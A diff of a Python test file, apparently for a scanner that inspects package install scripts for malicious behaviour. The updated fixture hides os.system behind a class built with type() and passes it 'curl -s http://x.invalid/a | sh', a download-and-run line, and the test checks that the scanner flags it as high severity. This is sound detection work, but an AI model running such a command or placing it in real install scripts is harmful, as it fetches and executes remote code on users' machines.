@@ -234,7 +234,11 @@ def test_keeping_a_replaced_files_mode_is_not_making_it_executable() -> None:
 def test_a_download_and_run_line_handed_to_a_hidden_callee_is_high_at_install() -> None:
     """The runner came out of a factory (or ``type()``, a ``methodcaller``): nothing names it,
     but a whole ``curl ... | sh`` handed to it is the dropper's intent."""
-    source = "import os\ndef make():\n    return os.system\nmake()('curl -s http://x.invalid/a | sh')\n"
+    source = (
+        "import os\n"
+        "K = type('K', (), {'go': staticmethod(os.system)})\n"
+        "K.go('curl -s http://x.invalid/a | sh')\n"
+    )
     findings = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
     assert [(f.rule, f.severity) for f in findings] == [("PV-DL-004", Severity.HIGH)]
     assert "curl -s" in findings[0].message
